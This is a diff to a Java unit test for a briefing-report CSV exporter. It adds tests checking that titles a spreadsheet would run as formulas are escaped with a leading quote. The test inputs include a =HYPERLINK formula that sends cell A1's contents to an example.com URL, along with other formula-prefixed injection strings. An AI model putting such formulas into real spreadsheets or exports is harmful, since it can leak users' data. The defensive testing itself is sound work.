@@ -13,6 +13,8 @@ import java.util.List;
 import org.giaoban.reporting.briefing.query.BriefingReport;
 import org.giaoban.reporting.briefing.query.BriefingReport.TaskFigures;
 import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 
 class BriefingCsvTest {
 
@@ -123,6 +125,29 @@ class BriefingCsvTest {
         assertThat(records).contains(List.of("contests", "HN", CITY, CONTEST + " entries", "1000000"));
         assertThat(records).contains(List.of("contests", "HN", CITY, CONTEST + " participants", "700000"));
         assertThat(csv).doesNotContain("1,000,000").doesNotContain("1.000.000");
+    }
+
+    @ParameterizedTest
+    @ValueSource(
+            strings = {
+                "=HYPERLINK(\"http://example.com/?q=\"&A1,\"Bấm vào đây\")",
+                "+1+1",
+                "-2+3",
+                "@SUM(A1)",
+                "\tcmd",
+                "\rcmd"
+            })
+    void writesATitleThatASpreadsheetWouldRunAsTextAfterAQuote(String title) {
+        String csv = BriefingCsv.render(ReferenceBriefing.withContestTitled(title));
+
+        assertThat(csv).contains(",\"'" + title.replace("\"", "\"\"") + " entries\",1000000\r\n");
+        assertThat(parse(csv)).contains(List.of("contests", "HN", CITY, "'" + title + " entries", "1000000"));
+    }
+
+    @Test
+    void leavesFiguresAndOrdinaryTextAsTheyAre() {
+        assertThat(csv).contains("tasks,HN," + CITY + ",completionRate,0.9655\r\n");
+        assertThat(parse(csv)).contains(List.of("contests", "HN", CITY, CONTEST + " entries", "1000000"));
     }
 
     @Test
